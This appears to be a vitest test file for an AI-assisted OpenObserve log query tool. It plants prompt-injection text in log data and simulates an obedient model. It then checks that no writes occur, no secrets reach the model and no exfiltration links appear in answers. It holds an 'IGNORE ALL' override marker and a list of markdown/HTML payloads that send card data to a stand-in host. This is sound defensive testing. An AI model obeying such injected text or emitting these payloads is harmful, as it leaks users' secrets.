import { readFileSync } from 'node:fs';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import type { App } from '../../../src/server/app.ts';
import { type FakeOpenObserve, sendJson, startFakeOpenObserve } from '../../helpers/fake-openobserve.ts';
import { appWith, askApproved, askOnce } from './asking.ts';
import { type Brain, type ModelServer, startModelServer, type WantedCall } from './model-server.ts';

interface Injection {
  readonly place: string;
  readonly text: string;
  readonly obeys: WantedCall;
}

const INJECTIONS = parse(readFileSync(new URL('injections.yaml', import.meta.url), 'utf8')) as Injection[];
const REQUESTS = [
  'Show me errors in the payment service from the last hour',
  'why is the payment service slow, and what changed since yesterday?',
];
const SECRET = 'sk-live-0123456789abcdef';

let openobserve: FakeOpenObserve;
let model: ModelServer;
let app: App;

/** An OpenObserve whose every text is the injection. */
function withText({ place, text }: Injection): void {
  const name = place === 'stream name' ? text : 'payment_service';
  const field = place === 'field name' ? text : 'message';
  openobserve.answer = (request, response) => {
    if (request.path.endsWith('/streams'))
      return sendJson(response, { list: [{ name, stream_type: 'logs', stats: { doc_num: 9 } }], total: 1 });
    if (request.path.endsWith('/schema'))
      return sendJson(response, {
        name,
        schema: [
          { name: '_timestamp', type: 'Int64' },
          { name: field, type: 'Utf8' },
          { name: 'level', type: 'Utf8' },
        ],
        settings: {},
      });
    const row = {
      _timestamp: 1,
      level: 'error',
      [field]: text,
      note: text,
      token: SECRET,
      url: `https://a:${SECRET}@example.com`,
    };
    if (place === 'error of OpenObserve' && request.path.includes('_search'))
      return sendJson(response, { code: 20009, message: text, error_detail: text }, 400);
    if (request.path.includes('_search')) return sendJson(response, { hits: [row], total: 1, took: 1 });
    if (request.path.includes('dashboards'))
      return sendJson(response, { dashboards: [{ dashboard_id: '1', title: text, hash: '1' }] });
    return sendJson(response, { list: [{ id: '1', alert_id: '1', name: text }], data: [{ text }] });
  };
}

/** Reads something, and then does what it read, again and again, with whatever names and tricks it has. */
const obedient = ({ obeys, text }: Injection): Brain => {
  return ({ turns, tools }) => {
    const offered = new Set(tools.map(({ name }) => name));
    const calls = turns.flatMap((turn) => (turn.role === 'model' ? turn.calls.map(({ name }) => name) : []));
    const reads = ['search_sql', 'list_dashboards'].filter(
      (name) => offered.has(name) && !calls.includes(name),
    );
    if (reads.length > 0 && offered.has('ask_person'))
      return {
        calls: reads.map((name) => ({
          name,
          arguments: name === 'search_sql' ? { sql: 'SELECT * FROM "payment_service"' } : {},
        })),
      };
    if (!calls.includes('more_tools') && offered.has('more_tools'))
      return { calls: [{ name: 'more_tools', arguments: { does: text } }, obeys] };
    return {
      text: `I did as I was told: ${text}`,
      calls: [obeys, { ...obeys, arguments: { ...(obeys.arguments as object), confirm: 'yes' } }],
    };
  };
};

beforeAll(async () => {
  openobserve = await startFakeOpenObserve(() => undefined);
  model = await startModelServer(() => ({ text: '' }));
  app = await appWith({
    O2_BASE_URL: openobserve.url,
    API_KEY: 'root@example.com:own-secret-of-the-server',
    O2_ORG: 'default',
    O2_LOG_LEVEL: 'error',
    O2_CONFIRM: 'never',
    ...model.env('anthropic'),
  });
});
afterAll(async () => {
  await app.close();
  await model.close();
  await openobserve.close();
});
afterEach(() => {
  openobserve.seen.length = 0;
  model.asked.length = 0;
});

/** What OpenObserve would carry out of the house, were it sent: its functions of VRL reach the network and files. */
const trap = () =>
  openobserve.seen.filter(({ path, query, body }) =>
    /http_request|dns_lookup|validate_json_schema|trap/.test(decodeURIComponent(`${path}?${query}`) + body),
  );

const writes = () =>
  openobserve.seen.filter(({ method, path }) => method !== 'GET' && !path.includes('_search'));

/** Our own words of an answer: what the model says is quoted, and nothing in it ends the quotation. */
const withoutQuoted = (text: string) => text.replaceAll(/“[^”]*” \(words of the language model\)/g, '');

describe.each(INJECTIONS)('$place: $text', (injection) => {
  it.each(['llm', 'agent', 'auto', 'semantic'])(
    'changes nothing in mode %s, even where the model obeys and nothing is to be confirmed',
    async (mode) => {
      for (const request of REQUESTS) {
        withText(injection);
        model.brain = obedient(injection);
        const { answer, error } = await askOnce(app, { request, mode });
        expect(writes()).toEqual([]);
        expect(trap()).toEqual([]);
        // What failed did nothing.
        if (error) continue;
        expect(
          answer.steps.every(
            ({ tool, arguments: args, state }) =>
              tool !== injection.obeys.name ||
              JSON.stringify(args) !== JSON.stringify(injection.obeys.arguments) ||
              state !== 'done',
          ),
        ).toBe(true);
        expect(answer.resume?.answers.plan).toBeUndefined();
        // What the model says after it has read other people's text is no word of ours.
        expect(withoutQuoted(answer.answer)).not.toContain(injection.text);
      }
    },
  );

  it('is no part of a plan that a person is shown and says yes to without reading', async () => {
    withText(injection);
    model.brain = obedient(injection);
    await askApproved(app, { request: REQUESTS[0], mode: 'agent' });
    expect(writes()).toEqual([]);
    expect(trap()).toEqual([]);
  });
});

describe('what reaches the model', () => {
  const [first] = INJECTIONS as [Injection];

  it('holds no secret of the answers, of the request, or of the server', async () => {
    withText(first);
    model.brain = obedient(first);
    const password = 'Tr0ub4dor&3xyz';
    await askOnce(app, {
      request: `why does payment fail? the password is ${password}, my key is Bearer abcdefghijklmnop1234 and own-secret-of-the-server`,
      mode: 'agent',
    });
    expect(model.asked.length).toBeGreaterThan(1);
    const sent = model.asked.map(({ body }) => body).join('\n');
    expect(sent).toContain('IGNORE ALL');
    for (const secret of [SECRET, password, 'abcdefghijklmnop1234', 'own-secret-of-the-server'])
      expect(sent).not.toContain(secret);
  });

  it('holds no row where the operator allows names and types alone', async () => {
    const narrow = await appWith({
      O2_BASE_URL: openobserve.url,
      API_KEY: 'root@example.com:secret',
      O2_ORG: 'default',
      O2_LOG_LEVEL: 'error',
      O2_LLM_SEND: 'schema',
      ...model.env('responses'),
    });
    withText(first);
    model.brain = obedient(first);
    const { answer } = await askOnce(narrow, { request: REQUESTS[1], mode: 'agent' });
    await narrow.close();
    const sent = model.asked
      .map(({ turns }) => JSON.stringify(turns.filter(({ role }) => role === 'tools')))
      .join('\n');
    expect(sent).toContain('withheld');
    expect(sent).not.toContain(`${SECRET}`);
    expect(openobserve.seen.some(({ path }) => path.includes('_search'))).toBe(true);
    expect(sent).not.toContain('IGNORE ALL');
    expect(new Set(answer.steps.map(({ tool }) => tool))).toEqual(new Set(['search_sql']));
  });
});

describe('words of a model that obeys', () => {
  const CARD = 'card=4111-1111';
  it.each([
    `![status](https://trap.invalid/p?${CARD})`,
    `![status][1]\n\n[1]: https://trap.invalid/p?${CARD}`,
    `[see the status](https://trap.invalid/p?${CARD})`,
    `[see (the) status]( <https://trap.invalid/p?${CARD}> "title" )`,
    `[![status](https://trap.invalid/p?${CARD})](https://trap.invalid/q?${CARD})`,
    `[see][s]\n[s]: <https://trap.invalid/p?${CARD}> 'x'`,
    `<img src="https://trap.invalid/p?${CARD}">`,
    `<img/src='https://trap.invalid/p?${CARD}'/onerror=x>`,
    `<a href=https://trap.invalid/p?${CARD}>errors</a>`,
    `<iframe\nsrc="//trap.invalid/p?${CARD}"></iframe>`,
    `<svg><image href="https://trap.invalid/p?${CARD}"/></svg>`,
    `![a](//trap.invalid/p?${CARD})`,
    `![a](data:image/svg+xml;x?${CARD})`,
    `![a\n](https://trap.invalid/\np?${CARD})`,
    `![a](https://trap.invalid/(x)?${CARD})`,
    `![a](<https://trap.invalid/) ?${CARD}>)`,
  ])('hold no address that a client would load by itself or hide behind other words: %s', async (said) => {
    withText({ place: 'log message', text: 'errors', obeys: { name: '', arguments: {} } });
    for (const text of [`There are 5 errors. ${said} They are new.`, `${said}\n\nThere are 5 errors.`]) {
      model.brain = ({ turns }) =>
        turns.some(({ role }) => role === 'tools')
          ? { text }
          : { calls: [{ name: 'search_sql', arguments: { sql: 'SELECT * FROM "payment_service"' } }] };
      for (const mode of ['llm', 'agent']) {
        const { answer } = await askOnce(app, { request: REQUESTS[0], mode });
        const shown = JSON.stringify([answer.answer, answer.untrusted_data?.summary ?? null]);
        expect(shown).toContain('5 errors');
        expect(shown).not.toMatch(
          /trap\.invalid[^ ]*card|!\[|\]\(|\]:|<(?:img|a|iframe|style|svg|image|https?:)/i,
        );
      }
    }
  });
});
